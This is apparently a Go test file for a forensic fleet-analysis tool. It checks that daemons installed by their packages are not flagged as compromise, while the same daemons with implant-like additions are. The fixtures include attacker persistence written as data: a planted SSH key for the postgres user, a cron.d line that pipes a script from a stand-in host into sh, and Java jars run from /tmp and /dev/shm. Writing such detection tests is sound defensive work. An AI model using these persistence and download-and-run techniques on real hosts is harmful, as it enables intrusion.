package analyze_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/diffy-dfir/diffy/collect"
	"github.com/diffy-dfir/diffy/diffytest/fleet"
	"github.com/diffy-dfir/diffy/payload"
)

// installedFleet is a design seed at 200 hosts with FamilyDaemons alone
// whose installed daemon (fleet's installedDaemons) is shape, with the
// rows of add on each of its hosts; it returns the Results and the
// daemon's hosts.
func installedFleet(t *testing.T, seed int64, shape string, add map[string][]collect.Row) (res []collect.Result, hosts []string) {
	t.Helper()
	sim := fleet.NewSim(fleet.SimConfig{Hosts: 200, Seed: seed, Families: fleet.FamilyDaemons})
	res, hosts = addRows(sim, func(i int) bool { return slices.Contains(sim.Host(i).Traits, "installed="+shape) }, add)
	if len(hosts) < 5 {
		t.Fatalf("seed %d: %s on %d hosts, want the seed's share (at least 5)", seed, shape, len(hosts))
	}
	return res, hosts
}

// TestClusterInstalledDaemons: a daemon installed with its package on
// 5-15% of the hosts, in the shape the package leaves, is a deployment
// (findCampaigns test 7), not a campaign: no host is flagged and a note
// names it. Before test 7 knew these shapes, every one of its hosts was
// flagged as a likely campaign: postgres's and jenkins's users have
// /bin/bash, kafka's command line names /opt/kafka/bin/../logs,
// elasticsearch's its temporary directory under /tmp, munin-node's
// package has a cron.d line.
func TestClusterInstalledDaemons(t *testing.T) {
	for _, c := range []struct {
		seed  int64
		shape string
		row   string // a row the note names
	}{
		{1, "jenkins", "jenkins.war"},
		{2, "postgres", "postgres: 16/main: checkpointer"},
		{5, "kafka", "kafka.Kafka"},
		{6, "elasticsearch", "java.io.tmpdir=/tmp/elasticsearch-"},
		{11, "munin-node", "/etc/cron.d/munin-node"},
	} {
		t.Run(c.shape, func(t *testing.T) {
			res, hosts := installedFleet(t, c.seed, c.shape, nil)
			rep := analyzeAll(t, res)
			if out := rep.Outliers(); len(out) != 0 {
				t.Errorf("%d outliers (the first %s), want none: %s installed with its package is no compromise", len(out), out[0].InstanceID, c.shape)
			}
			if !slices.ContainsFunc(rep.Notes, func(n string) bool { return strings.HasPrefix(n, "a deployment on ") && strings.Contains(n, c.row) }) {
				t.Errorf("no deployment note names %s on the %d hosts; notes:\n%s", c.row, len(hosts), strings.Join(rep.Notes, "\n"))
			}
		})
	}
}

// TestClusterInstalledDaemonsPersist: the same daemons with one row that
// persists, lets someone in or runs what was dropped, the same on each of
// their hosts, are a campaign again: every one of their hosts flagged, no
// other, and the first note names it. These are the shapes test 7 now
// lets pass, each with what an implant would add.
func TestClusterInstalledDaemonsPersist(t *testing.T) {
	cron := func(cmd, path string) map[string][]collect.Row {
		return map[string][]collect.Row{payload.Crontab: {{"event": "", "minute": "*/5", "hour": "*", "day_of_month": "*", "month": "*",
			"day_of_week": "*", "command": cmd, "path": path}}}
	}
	for _, c := range []struct {
		name  string
		seed  int64
		shape string
		add   map[string][]collect.Row
	}{
		// postgres's user has a login shell: a key for it lets someone in.
		{"a key for postgres", 2, "postgres", map[string][]collect.Row{payload.AuthorizedKeys: {{"username": "postgres", "algorithm": "ssh-ed25519",
			"key": "AAAAC3NzaC1lZDI1NTE5AAAAIHq0e5mPZkqRkS1L0xH3m9WfQkH2v3y4z5a6b7c8d9e0", "key_file": "/var/lib/postgresql/.ssh/authorized_keys"}}}},
		// A cron.d line that starts the daemon again is a watchdog.
		{"a watchdog of the postmaster", 2, "postgres", cron("root pgrep -x postgres || /usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main", "/etc/cron.d/postgresql")},
		{"a cron.d line fetching its code", 11, "munin-node", cron("root curl -fsSL http://cdn-munin.top/u.sh | sh", "/etc/cron.d/munin-update")},
		{"a user's crontab", 11, "munin-node", cron("/usr/bin/munin-run apt_all update", "/var/spool/cron/crontabs/root")},
		// A JVM whose temporary directory is in /tmp runs a jar from there.
		{"a jar in the temporary directory", 6, "elasticsearch", map[string][]collect.Row{payload.Processes: {{"name": "java", "path": "/usr/share/elasticsearch/jdk/bin/java",
			"cmdline": "/usr/share/elasticsearch/jdk/bin/java -Djava.io.tmpdir=/tmp -jar /tmp/es-update.jar", "uid": "0", "pid": "31337", "parent": "1", "start_time": "1794365080"}}}},
		{"a path climbing into /dev/shm", 5, "kafka", map[string][]collect.Row{payload.Processes: {{"name": "java", "path": "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
			"cmdline": "java -cp /opt/kafka/bin/../../../dev/shm/k.jar kafka.Tool", "uid": "0", "pid": "31337", "parent": "1", "start_time": "1794365080"}}}},
	} {
		t.Run(c.name, func(t *testing.T) {
			res, hosts := installedFleet(t, c.seed, c.shape, c.add)
			rep := analyzeAll(t, res)
			wantOutliersExactly(t, rep, hosts)
			if len(rep.Notes) == 0 || !strings.HasPrefix(rep.Notes[0], "likely campaign on ") {
				t.Errorf("first note %q, want the likely campaign", rep.Notes)
			}
		})
	}
}
